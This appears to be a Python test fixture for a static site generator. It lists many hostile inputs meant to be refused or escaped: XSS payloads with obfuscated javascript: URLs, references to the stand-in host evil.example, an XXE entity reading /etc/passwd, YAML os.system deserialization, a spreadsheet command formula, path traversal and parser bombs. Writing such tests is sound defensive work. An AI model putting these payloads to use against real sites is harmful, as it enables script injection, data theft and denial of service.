"""What someone might write into Content to get it to do something on a page: each is refused, or is text there and nothing else.

A payload sets `canary`, opens a dialog or asks another machine; the browser tells of all three.
"""
import base64
import dataclasses

RUN = "canary()"
DATA = "data:text/html;base64," + base64.b64encode(b"<script>canary=1</script>").decode()
SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">\n{}\n</svg>\n'
HARMLESS = SVG.format("<title>Ofarlig</title>")


@dataclasses.dataclass
class Attack:
    name: str
    text: str = "Text.\n"
    head: str = "title: En sida\nkind: page\n"
    files: dict = dataclasses.field(default_factory=dict)  # more of Content, by path
    refused: str = None  # the code of the fault; None where it comes out as text


def markdown(refused, **texts):
    return [Attack(name.replace("_", " "), text + "\n", refused=refused) for name, text in texts.items()]


MARKUP = markdown(
    "raw-html",
    script=f"<script>{RUN}</script>", script_in_text=f"Text <script>{RUN}</script> text", script_upper=f"<SCRIPT>{RUN}</SCRIPT>",
    script_slash=f"<script/x>{RUN}</script>", script_over_lines=f"<script\n>{RUN}</script\n>", script_source="<script src=https://evil.example/a.js></script>",
    image=f"Text <img src=x onerror={RUN}> text", vector=f"<svg onload={RUN}></svg>",
    frame=f'<iframe srcdoc="<script>{RUN}</script>"></iframe>', details=f"<details open ontoggle={RUN}>x</details>", body=f"<body onload={RUN}>",
    style="<style>*{background:url(https://evil.example/)}</style>", style_attribute='<b style="background:url(https://evil.example/)">x</b>',
    link_element='<link rel=stylesheet href="https://evil.example/a.css">', base="<base href=https://evil.example/>",
    refresh='<meta http-equiv="refresh" content="0;url=https://evil.example/">', form='<form action="https://evil.example/"><input name=a></form>',
    object=f'<object data="{DATA}"></object>', embed=f'<embed src="{DATA}">', comment=f"<!-- --!><script>{RUN}</script>", comment_conditional=f"<!--[if IE]><script>{RUN}</script><![endif]-->",
    cdata=f"<![CDATA[<script>{RUN}</script>]]>", instruction=f"<?php <script>{RUN}</script> ?>", declaration=f"<!DOCTYPE x [<!ENTITY a '<script>{RUN}</script>'>]>",
    end_tags="</article></main></body>", textarea=f"<textarea><script>{RUN}</script></textarea>", noscript=f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    math=f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>", template=f"<template><script>{RUN}</script></template>", marquee=f"<marquee onstart={RUN}>x</marquee>",
    in_heading=f"## Rubrik <img src=x onerror={RUN}>", in_list=f"- <img src=x onerror={RUN}>", in_box=f"> [!RUTA] Titel <b onclick={RUN}>x</b>",
    in_table=f"| a | b |\n| --- | --- |\n| <img src=x onerror={RUN}> | b |", in_caption=f"Tabell: <b onclick={RUN}>x\n\n| a |\n| --- |\n| b |",
    in_note=f"Ord.[^a]\n\n[^a]: <img src=x onerror={RUN}>", in_link=f"[<img src=x onerror={RUN}>](https://example.org/)", in_emphasis=f"*<img src=x onerror={RUN}>*",
    thousands="<br>" * 100_000, in_quote=f"> <script>{RUN}</script>", after_tab=f"\t\n<script>{RUN}</script>",
)

SCHEMES = markdown(
    "forbidden-scheme",
    javascript=f"[x](javascript:{RUN})", javascript_case=f"[x](JaVaScRiPt:{RUN})", javascript_entity=f"[x](&#x6A;avascript:{RUN})",
    javascript_entities=f"[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{RUN})", javascript_colon=f"[x](javascript&colon;{RUN})",
    javascript_newline=f"[x](java&#x0A;script:{RUN})", javascript_return=f"[x](java&#13;script:{RUN})", javascript_tab=f"[x](<java\tscript:{RUN}>)",
    javascript_tab_entity=f"[x](java&Tab;script:{RUN})", javascript_new_line_entity=f"[x](java&NewLine;script:{RUN})",
    javascript_nbsp=f"[x](\u00a0javascript:{RUN})", javascript_space=f"[x](<\u2003javascript:{RUN}>)", javascript_blank=f"[x](< javascript:{RUN}>)",
    javascript_zero_width=f"[x](java\u200bscript:{RUN})", javascript_escaped=f"[x](javascript\\:{RUN})", javascript_reference=f"[x][a]\n\n[a]: javascript:{RUN}",
    javascript_comment=f"[x](javascript://example.org/%0a{RUN})", javascript_autolink=f"<javascript:{RUN}>", javascript_in_table=f"| a |\n| --- |\n| [x](javascript:{RUN}) |",
    javascript_in_note=f"Ord.[^a]\n\n[^a]: [x](javascript:{RUN})", javascript_in_heading=f"## [x](javascript:{RUN})", data=f"[x]({DATA})", data_case=f"[x](DATA:text/html,&lt;script&gt;{RUN}&lt;/script&gt;)",
    vbscript="[x](vbscript:msgbox)", livescript=f"[x](livescript:{RUN})", file="[x](file:///etc/passwd)", blob="[x](blob:https://example.org/a)",
    filesystem="[x](filesystem:https://example.org/a)", view_source="[x](view-source:https://example.org/)", about="[x](about:blank)", feed=f"[x](feed:javascript:{RUN})",
    windows="[x](C:/Windows/win.ini)", ftp="[x](ftp://evil.example/)", websocket="[x](wss://evil.example/)", intent="[x](intent://evil.example/)", no_scheme="[x](//evil.example/)",
    full_width="[x](\uff4aavascript:alert)", line_feed_encoded="[x](a%0Ajavascript:b)",
)

PATHS = markdown(
    "broken-link",
    up="[x](../../../../etc/passwd.md)", up_encoded="[x](..%2f..%2f..%2fetc%2fpasswd.md)", up_double="[x](%252e%252e/%252e%252e/a.md)", absolute="[x](/etc/passwd)",
    backslashes="[x](..\\\\..\\\\a.md)", backslash_host="[x](\\\\\\\\evil.example)", slash_backslash="[x](/\\\\evil.example)", null_encoded="[x](a%00.md)", question="[x](?a=javascript:)",
    unc="[x](<\\\\\\\\evil.example\\\\a>)",
) + markdown("missing-image", picture_outside="![x](https://evil.example/a.png)", picture_up="![x](../../../etc/a.png)", picture_no_scheme="![x](//evil.example/a.png)") + markdown(
    "unsupported-image", picture_passwd="![x](../../../etc/passwd)", picture_page="![x](index.md)",
) + markdown("missing-image", picture_javascript=f"![x](javascript:{RUN})", picture_data="![x](data:image/svg+xml,x)") + markdown(
    "invalid-language", language=f'[x](<lang:en" onmouseover="{RUN}>)', language_markup="[x](lang:en&gt;&lt;script&gt;)",
) + markdown("unknown-term", term=f'[x](<term:a" onclick="{RUN}>)') + markdown("unknown-act", act=f'[x](<lag:a" onclick="{RUN}>)') + markdown(
    "unknown-reference", work=f'[@a" onclick="{RUN}]') + markdown(
    "invalid-id", id_of_heading=f'## Rubrik {{#a" onclick="{RUN}}}', note=f'Ord.[^a"onclick={RUN}]\n\n[^a"onclick={RUN}]: Not.')

ESCAPED = markdown(
    None,
    image_without_end=f"<img src=x onerror={RUN} ",     entities="&lt;script&gt;canary=1&lt;/script&gt;", entities_numbers="&#60;script&#62;canary=1&#60;/script&#62;", entities_hex="&#x3c;img src=x onerror=canary=1&#x3e;",
    entities_twice="&amp;lt;script&amp;gt;canary=1&amp;lt;/script&amp;gt;", entity_quote="&quot; onmouseover=canary=1 &quot;", entity_null="&#0;&#x110000;&#xD800;",
    backslashes="\\<script\\>canary=1\\</script\\>", code="`<script>canary=1</script>`", code_block="```\n<script>canary=1</script>\n</code></pre><img src=x onerror=canary=1>\n```",
    code_info='```html" onload="canary=1\ntext\n```', code_info_markup="```<img/src=x/onerror=canary=1>\ntext\n```", indented="    <script>canary=1</script>",
    link_title="[x](https://example.org/ \"a\\\" onmouseover=canary=1 b=\\\"\")", link_quote='[x](https://example.org/"onmouseover=canary=1)', link_angle="[x](https://example.org/&gt;&lt;script&gt;canary=1)",
    link_apostrophe="[x](https://example.org/'onmouseover='canary=1)", mail="[x](mailto:a@example.org?subject=%0d%0aBcc:b@example.org)",
    telephone="[x](tel:+46\"onclick=canary=1)", autolink="<https://example.org/?a=\"onmouseover=canary=1>", link_text='[" onmouseover="canary=1](https://example.org/)',
    heading='## " onmouseover="canary=1" x="', heading_entities="## &lt;img src=x onerror=canary=1&gt;", heading_id="## Rubrik {#constructor}\n\n## En till {#proto}",
    box_title="> [!RUTA] &lt;img src=x onerror=canary=1&gt;\n>\n> Text.", table='| " onclick=canary=1 |\n| --- |\n| &lt;script&gt;canary=1&lt;/script&gt; |', caption="Tabell: &lt;img src=x onerror=canary=1&gt;\n\n| a |\n| --- |\n| b |",
    footnote="Ord.[^a]\n\n[^a]: &lt;img src=x onerror=canary=1&gt; \" onclick=canary=1", mustache="{{title}} {{{content}}} {{>partials/head}} {{#children}}x{{/children}} {{=<% %>=}}",
    mustache_code="`{{{content}}}`", javascript_text="${canary=1} `${canary=1}` \\u003cscript\\u003e", style_text="&lt;/style>&lt;script>canary=1&lt;/script>",
    end_of_data="&lt;/script&gt;&lt;script&gt;canary=1&lt;/script&gt;", comment_text="--&gt; &lt;!-- ]]&gt;", wiki="[[javascript:canary=1]]", direction_marks="\u200e\u200f\u061c text",
    combining="Z" + "\u0301\u0302\u0323" * 300 + "algo", surrogate_pairs="\U0001f469\U0001f3fd\u200d\u2695\ufe0f",
    line_separator="text\u2028canary=1\u2029canary=1", private_use="\ue000\ue001\uf8ff", noncharacter="\ufffe\uffff\U0010ffff",
    formula="=cmd|' /C calc'!A0", long_word="a" * 100_000, long_line="ord " * 100_000, brackets="[" * 20_000, stars="*a " * 5_000, backticks="Text " + "`" * 5_000 + "a", underscores="_a" * 5_000,
    many_links="[a](https://example.org/) " * 2_000, wide_table="|" + " a |" * 500 + "\n|" + " --- |" * 500 + "\n|" + " b |" * 500, angles="<" * 20_000, ampersands="&" * 20_000, exclamations="![" * 3_000,
    links="[" * 3_000 + "a" + "](https://example.org/)" * 3_000,
)

OPEN = markdown("unclosed-code", fence="```html\n<script>canary=1</script>", long_fence="`" * 5_000 + "a", fence_in_item="- ~~~\n  <b>\n")

HEADS = [
    Attack("title markup", head="title: \"<script>canary=1</script>\"\nkind: page\n"),
    Attack("title attribute", head="title: \"\\\" onmouseover=\\\"canary=1\"\nkind: page\n"),
    Attack("title end", head="title: \"</title></script><script>canary=1</script>\"\nkind: page\n"),
    Attack("title data", head="title: \"]]></script>--><img src=x onerror=canary=1>\"\nkind: page\n"),
    Attack("title entity", head="title: \"&lt;script&gt;canary=1&lt;/script&gt;\"\nkind: page\n"),
    Attack("title mustache", head="title: \"{{{content}}}{{>partials/head}}\"\nkind: page\n"),
    Attack("title separators", head="title: \"a\\u2028b\\u2029</script>\"\nkind: page\n"),
    Attack("summary", head="title: En sida\nkind: page\nsummary: \"<img src=x onerror=canary=1> \\\" onclick=canary=1\"\n"),
    Attack("audience", head="title: En sida\nkind: page\naudience: \"<img src=x onerror=canary=1>\"\n"),
    Attack("changes", head="title: En sida\nkind: page\nchanges:\n  - date: 2026-11-21\n    note: \"<script>canary=1</script>]]>\"\n    edition: \"<b>\"\n"),
    Attack("kind", head="title: En sida\nkind: \"<script>\"\n", refused="unknown-value"),
    Attack("status", head="title: En sida\nkind: page\nstatus: \"\\\" onclick=canary=1\"\n", refused="unknown-value"),
    Attack("part", head="title: En sida\nkind: page\npart: ../..\n", refused="unknown-value"),
    Attack("order", head="title: En sida\nkind: page\norder: 99999999999999999999\n", refused="wrong-type"),
    Attack("key", head="title: En sida\nkind: page\n\"<script>\": x\n", refused="unknown-key"),
    Attack("escape", head="title: \"a\\0b\"\nkind: page\n", refused="control-character"),
    Attack("bell", head="title: \"a\\x07b\"\nkind: page\n", refused="control-character"),
    Attack("direction in the head", head="title: \"a\\u202Eb\"\nkind: page\n", refused="direction-override"),
    Attack("alias", head="title: &a En sida\nkind: page\nsummary: *a\n", refused="yaml-alias"),
    Attack("alias bomb", head="title: En sida\nkind: page\naudience: &a [x, x]\nb: &b [*a, *a]\nc: &c [*b, *b]\n", refused="yaml-alias"),
    Attack("merge", head="title: En sida\nkind: page\n<<: *a\n", refused="yaml-alias"),
    Attack("type", head="title: !!python/object/apply:os.system [ls]\nkind: page\n", refused="invalid-yaml"),
    Attack("binary", head="title: !!binary aGVq\nkind: page\n", refused="invalid-yaml"),
    Attack("deep", head="title: En sida\nkind: page\naudience: " + "[" * 2_000 + "]" * 2_000 + "\n", refused="invalid-yaml"),
    Attack("documents", head="title: En sida\nkind: page\n--- \ntitle: En annan\n", text="Text.\n"),
]

DECEPTION = markdown("direction-override", override="Ett ord \u202edro ttE", embedding="a \u202ab", isolate="a \u2066b \u2069", override_entity="a &#x202e;b", override_decimal="a &#8238;b",
                     override_in_code="`a\u202eb`", override_in_address="[x](https://example.org/\u202egro.elpmaxe)") + markdown(
    "mixed-alphabets", cyrillic="En p\u0430tient", cyrillic_entity="En p&#x430;tient", cyrillic_named="En p&acy;tient", greek="Sjukskriv\u03bding", full_width="\uff36\u00e5rd",
    mathematics="\U0001d415\u00e5rd", whole_word="Ordet \u0441\u043e\u0440\u0430", in_heading="## P\u0430tient", in_table="| a |\n| --- |\n| p\u0430tient |", in_code="`p\u0430tient`",
    digits="\uff127 kap.", arabic_digits="\u06627 kap.", zero_width="pat\u200bient", zero_width_entity="pat&#x200b;ient", joiner="pat\u2060ient", filler="a\u3164b",
    times="a\u2062b", tags="a\U000e0062b", interlinear="a\ufff9b", ipa="p\u0251tient", small_g="la\u0261", small_capital="l\u1d00g", roman="\u217c\u00e4kare", planck="\u210e\u00e4lsa",
    cherokee="\u13aarbete", lisu="\ua4d0ok", coptic="\u2c9erd", hebrew="\u05e1rd", kelvin="\u212aod",
    byte_order="text \ufeff<https://example.org/>", in_link_title='[x](https://example.org/ "p\u0430tient")') + markdown(
    "broken-link", password="[x](https://user:password@example.org/)", no_host="[x](https:///example.org/)", one_slash="[x](https:/example.org/)", line_in_host="[x](<https://exa mple.org/>)") + markdown(
    "control-character", null="a\x00b", escape="a\x1b[31mb", backspace="a\x08b", delete="a\x7fb", bell_entity="a&#7;b", mark_of_ours="a\x01b\x04c") + markdown(
    "nesting-too-deep", quotes=">" * 10_000 + "a", lists="- " * 5_000 + "a", emphasis="*a **a " * 3_000 + "a" + "** a*" * 3_000)


def drawing(name, inside, refused="unsafe-svg", whole=None):
    slug = name.replace(" ", "-")
    return Attack("svg " + name, f"![En bild]({slug}.svg)\n", files={f"{slug}.svg": whole or SVG.format(inside)}, refused=refused)


DRAWINGS = [
    drawing("script", f"<script>{RUN}</script>"), drawing("script prefix", f'<x:script xmlns:x="http://www.w3.org/2000/svg">{RUN}</x:script>'),
    drawing("script cdata", f"<script><![CDATA[{RUN}]]></script>"), drawing("script href", '<script href="https://evil.example/a.js"/>'), drawing("script case", f"<SCRIPT>{RUN}</SCRIPT>"),
    drawing("onload", "", whole=HARMLESS.replace("viewBox", f'onload="{RUN}" viewBox')), drawing("onclick", f'<rect width="9" height="9" onclick="{RUN}"/>'),
    drawing("event prefix", f'<rect xmlns:x="y" x:onclick="{RUN}"/>'), drawing("foreign", f"<foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload='{RUN}'/></foreignObject>"),
    drawing("html", f"<div xmlns='http://www.w3.org/1999/xhtml'><img src='x' onerror='{RUN}'/></div>"), drawing("animate", f'<a href="#a"><animate attributeName="href" values="javascript:{RUN}"/></a>'),
    drawing("set", f'<set attributeName="onmouseover" to="{RUN}"/>'), drawing("motion", "<animateMotion/>"), drawing("handler", f'<handler type="x">{RUN}</handler>'),
    drawing("use outside", '<use href="https://evil.example/a.svg#b"/>'), drawing("use data", f'<use xlink:href="data:image/svg+xml;base64,{base64.b64encode(b"<svg/>").decode()}#a"/>'),
    drawing("use javascript", f'<use href="javascript:{RUN}"/>'), drawing("link javascript", f'<a href="javascript:{RUN}"><text>x</text></a>'), drawing("link xlink", f'<a href="../index.md" xlink:href="javascript:{RUN}"><text>x</text></a>'),
    drawing("link outside", '<a href="https://evil.example/"><text>x</text></a>'), drawing("link entity", f'<a href="java&#10;script:{RUN}"><text>x</text></a>'),
    drawing("image", '<image href="https://evil.example/a.png"/>'), drawing("feimage", '<filter id="a"><feImage href="https://evil.example/a.png"/></filter>'),
    drawing("style element", "<style>@import 'https://evil.example/a.css'</style>"), drawing("style attribute", '<rect style="fill:url(https://evil.example/a)"/>'),
    drawing("fill outside", '<rect fill="url(https://evil.example/a#b)"/>'), drawing("fill twice", '<rect fill="url(#a) url(https://evil.example/)"/>'), drawing("fill escape", '<rect fill="u\\72l(https://evil.example/)"/>'),
    drawing("mask image set", "<rect mask=\"image-set('https://evil.example/a.png' 1x)\"/>"), drawing("mask image set prefix", "<rect mask=\"-webkit-image-set('https://evil.example/a.png' 1x)\"/>"),
    drawing("mask behind a good one", "<rect mask=\"url(#a), image-set('https://evil.example/a.png' 1x)\"/>"), drawing("clip src", "<rect clip-path=\"src('https://evil.example/a.svg#b')\"/>"),
    drawing("fill var", '<rect fill="var(--a, red)"/>'), drawing("functions of drawings", '<rect transform="translate (1, 2) skewX(3)rotate(4)" fill="rgb(1, 2, 3)" aria-label="Ruta (en)"/>', refused=None),
    drawing("fill blank", '<rect fill="url( https://evil.example/ )"/>'), drawing("cursor", '<rect cursor="url(https://evil.example/)"/>'), drawing("base", "", whole=HARMLESS.replace("viewBox", 'xml:base="https://evil.example/" viewBox')),
    drawing("doctype", "", whole="<!DOCTYPE svg [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>\n" + SVG.format("<text>&a;</text>")),
    drawing("doctype case", "", whole="<!doctype svg>\n" + HARMLESS), drawing("bomb", "", whole="<!DOCTYPE svg [<!ENTITY a 'x'><!ENTITY b '&a;&a;&a;'>]>\n" + SVG.format("<text>&b;</text>")),
    drawing("stylesheet", "", whole="<?xml-stylesheet href='https://evil.example/a.css'?>\n" + HARMLESS), drawing("instruction", f"<?php {RUN} ?>"), drawing("instruction that is a name", "<?xf?>"),
    drawing("repetition", "".join(f'<g id="a{level}">' + f'<use href="#a{level + 1}"/>' * 10 + "</g>" for level in range(9)) + '<rect id="a9" width="1" height="1"/>'),
    drawing("repetition of itself", '<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'), drawing("repetition in patterns", "".join(
        f'<pattern id="p{level}">' + f'<rect fill="url(#p{level + 1})"/>' * 10 + "</pattern>" for level in range(9))),
    drawing("other root", "", whole=f"<html xmlns='http://www.w3.org/1999/xhtml'><script>{RUN}</script></html>\n"), drawing("namespace", "", whole=f'<svg xmlns="http://www.w3.org/1999/xhtml"><script>{RUN}</script></svg>\n'),
    drawing("no namespace", "", whole='<svg viewBox="0 0 9 9"><title>x</title></svg>\n', refused=None), drawing("html namespace", "", whole='<svg xmlns="http://www.w3.org/1999/xhtml"><title>&lt;img src=x onerror=canary=1&gt;</title></svg>\n', refused=None),
    drawing("text", "<text>&lt;script&gt;canary=1&lt;/script&gt;</text>", refused=None), drawing("title", "<title>&lt;img src=x onerror=canary=1&gt;</title>", refused=None),
    drawing("cdata text", "<text><![CDATA[</text></svg><img src=x onerror=canary=1>]]></text>", refused=None), drawing("attribute", '<rect class="a&quot; onclick=&quot;canary=1" width="9"/>', refused=None),
    drawing("id", '<rect id="a&quot; onclick=&quot;canary=1" width="9"/>', refused=None), drawing("comment", "<!-- --><!--<script>canary=1</script>-->", refused=None),
    drawing("not closed", "<g>"), drawing("deep", "<g>" * 50_000 + "</g>" * 50_000), drawing("direction", "<text>a&#x202e;b</text>", refused="direction-override"), drawing("alphabets", "<text>p&#x430;tient</text>", refused="mixed-alphabets"),
    drawing("utf 16", "", whole="<?xml version='1.0' encoding='UTF-16'?>\n" + HARMLESS), drawing("utf 7", "", whole="<?xml version='1.0' encoding='UTF-7'?>\n" + SVG.format("<text>+ADw-script+AD4-</text>")),
    Attack("picture that is a page", "![En bild](sida.png)\n", files={"sida.png": f"<script>{RUN}</script>"}), Attack("alternative text", f'![" onerror="{RUN}](ofarlig.svg)\n', files={"ofarlig.svg": HARMLESS}),
    Attack("caption", '![Alt](bild-a.svg "Figur 1. <img src=x onerror=canary=1>")\n', files={"bild-a.svg": HARMLESS}),
    Attack("alternative text of a picture", f'![" onerror="{RUN}" x="](bild-b.png "\'><script>{RUN}</script>")\n', files={"bild-b.png": "x"}),
]

CHECKLIST = "title: En lista\nkind: checklist\n"
LISTS = [
    Attack("item markup", f"- [ ] <img src=x onerror={RUN}>\n", CHECKLIST, refused="raw-html"), Attack("item entity", "- [ ] &lt;img src=x onerror=canary=1&gt; \" onclick=canary=1\n", CHECKLIST),
    Attack("item condition", '- [ ] Punkt {villkor: <img src=x onerror=canary()> " onclick=canary=1}\n', CHECKLIST, refused="raw-html"),
    Attack("item condition entity", '- [ ] Punkt {villkor: &lt;img src=x onerror=canary=1&gt; " onclick=canary=1}\n', CHECKLIST),
    Attack("item id", f'- [ ] Punkt {{#a" onclick="{RUN}}}\n', CHECKLIST, refused="invalid-id"), Attack("item id of objects", "- [ ] Punkt {#constructor}\n- [ ] En till {#proto}\n- [ ] Tre {#tostring}\n", CHECKLIST),
    Attack("item link", f"- [ ] Punkt. [x](javascript:{RUN})\n", CHECKLIST, refused="forbidden-scheme"),
]

def numbered(attacks):
    """Each with a name of its own."""
    for number, attack in enumerate(attacks):
        attack.name = f"{number} {attack.name}"
    return attacks


ATTACKS = numbered(MARKUP + SCHEMES + PATHS + ESCAPED + OPEN + HEADS + DECEPTION + DRAWINGS + LISTS)

Q = '<script>canary=1</script>\\" onclick=\\"canary=1'
REGISTERS = {
    "termer.yml": f'- id: prov\n  term: "{Q}"\n  forms: ["<b>", "ordet"]\n  definition: "{Q}"\n  source: "{Q}"\n  synonyms: ["{Q}"]\n',
    "forfattningar.yml": f'- id: "2010:110"\n  title: "{Q} (2010:110)"\n  names: [SFB]\n  numbering: chapters\n  url: "https://example.org/\\" onclick=\\"canary=1"\n',
    "referenser.yml": f'- key: verket\n  title: "{Q}"\n  authors: "{Q}"\n  publisher: "{Q}"\n  year: "{Q}"\n  note: "{Q}"\n  url: "https://example.org/\\"><script>canary=1</script>"\n',
    "kodverk.yml": f'- id: kva\n  title: "{Q}"\n  url: "http://example.org/?javascript:"\n  codes:\n    - code: DV077\n      title: "{Q}"\n      use: "{Q}"\n      when: "{Q}"\n      who: "{Q}"\n      strength: "{Q}"\n      source: "{Q}"\n',
    "aktorer.yml": f'- id: aktor\n  name: "{Q}"\n  role: "{Q}"\n  responsibilities:\n    - text: "{Q}"\n      basis: "{Q} 27 kap. 25 § SFB"\n',
    "normer.yml": f'- id: n1\n  at: index.md\n  actor: "{Q}"\n  modality: ska\n  force: lag\n  basis: ["{Q}"]\n  condition: "{Q}"\n  keys: ["uttalande"]\n',
    "omdirigeringar.yml": '- from: "gammal\' onclick=\'canary=1 & (x).html"\n  to: index.html\n',
    "tillganglighet.yml": f'- {{id: "1", title: "{Q}", result: brist, method: manuell, date: 2026-11-21, test: "{Q}", fault: "{Q}"}}\n',
}

# Entries that are refused, each alone: (register, entry, code).
REFUSED_ENTRIES = [
    ("omdirigeringar.yml", '- from: "gammal\\"><img src=x onerror=canary=1>.html"\n  to: index.html\n', "redirect-from-existing"),
    ("omdirigeringar.yml", '- from: "../utanfor.html"\n  to: index.html\n', "redirect-from-existing"),
    ("omdirigeringar.yml", '- from: "/../../utanfor.html"\n  to: index.html\n', "redirect-from-existing"),
    ("omdirigeringar.yml", '- from: "a/./b.html"\n  to: index.html\n', "redirect-from-existing"),
    ("omdirigeringar.yml", '- from: "a//b.html"\n  to: index.html\n', "redirect-from-existing"),
    ("omdirigeringar.yml", '- from: "a\\0b.html"\n  to: index.html\n', "control-character"),
    ("omdirigeringar.yml", "- from: api/v1/index.html\n  to: index.html\n", "redirect-from-existing"),
    ("omdirigeringar.yml", "- from: index.html/\n  to: index.html\n", "duplicate-output"),
    ("omdirigeringar.yml", "- from: feed.xml\n  to: index.html\n", "duplicate-output"),
    ("omdirigeringar.yml", "- from: .lots-site\n  to: index.html\n", "redirect-from-existing"),
    ("omdirigeringar.yml", f"- from: {'a' * 300}.html\n  to: index.html\n", "redirect-from-existing"),
    ("omdirigeringar.yml", "- from: a.html\n  to: index.html\n- from: a.html/b.html\n  to: index.html\n", "duplicate-output"),
    ("omdirigeringar.yml", "- from: gammal.html\n  to: \"javascript:canary=1\"\n", "broken-redirect"),
    ("omdirigeringar.yml", "- from: gammal.html\n  to: \"https://evil.example/\"\n", "broken-redirect"),
    ("omdirigeringar.yml", "- from: gammal.html\n  to: \"//evil.example/\"\n", "broken-redirect"),
    ("referenser.yml", '- key: a\n  title: A\n  url: "javascript:canary=1"\n', "forbidden-scheme"),
    ("referenser.yml", '- key: a\n  title: A\n  url: "JAVASCRIPT:canary=1"\n', "forbidden-scheme"),
    ("referenser.yml", '- key: a\n  title: A\n  url: " https://example.org/"\n', "forbidden-scheme"),
    ("referenser.yml", '- key: "a\\" onclick=\\"canary=1"\n  title: A\n', "invalid-id"),
    ("forfattningar.yml", '- id: "2010:110"\n  title: A\n  numbering: chapters\n  url: "data:text/html,x"\n', "forbidden-scheme"),
    ("forfattningar.yml", '- id: "../../<img src=x>"\n  title: A\n  numbering: sections\n', "invalid-id"),
    ("forfattningar.yml", '- id: "2010:110/../../../index"\n  title: A\n  numbering: sections\n', "invalid-id"),
    ("kodverk.yml", "- id: ../kva\n  title: A\n", "invalid-id"),
    ("kodverk.yml", '- id: kva\n  title: A\n  url: "vbscript:x"\n', "forbidden-scheme"),
    ("termer.yml", "- id: ../../a\n  term: a\n  definition: b\n", "invalid-id"),
    ("termer.yml", "- &a {id: a, term: a, definition: b}\n- *a\n", "yaml-alias"),
    ("termer.yml", "- id: a\n  term: a\n  definition: p\u0430tient\n", "mixed-alphabets"),
    ("termer.yml", "- id: a\n  term: a\n  definition: \"\\u202e\"\n", "direction-override"),
    ("termer.yml", "a: " * 20_000 + "b\n", "invalid-yaml"),
    ("termer.yml", "[" * 100_000 + "\n", "invalid-yaml"),
    ("termer.yml", "- " * 50_000 + "a\n", "invalid-yaml"),
    ("termer.yml", "- {id: a, term: a, definition: b}\n" * 300_000, "file-too-large"),
    ("termer.yml", "- [a]\n" * 150_000, "invalid-yaml"),
    ("aktorer.yml", "- !!python/name:os.system\n", "invalid-yaml"),
    ("publicerade-id.yml", '- page: "<script>.html"\n', "missing-published-id"),
]
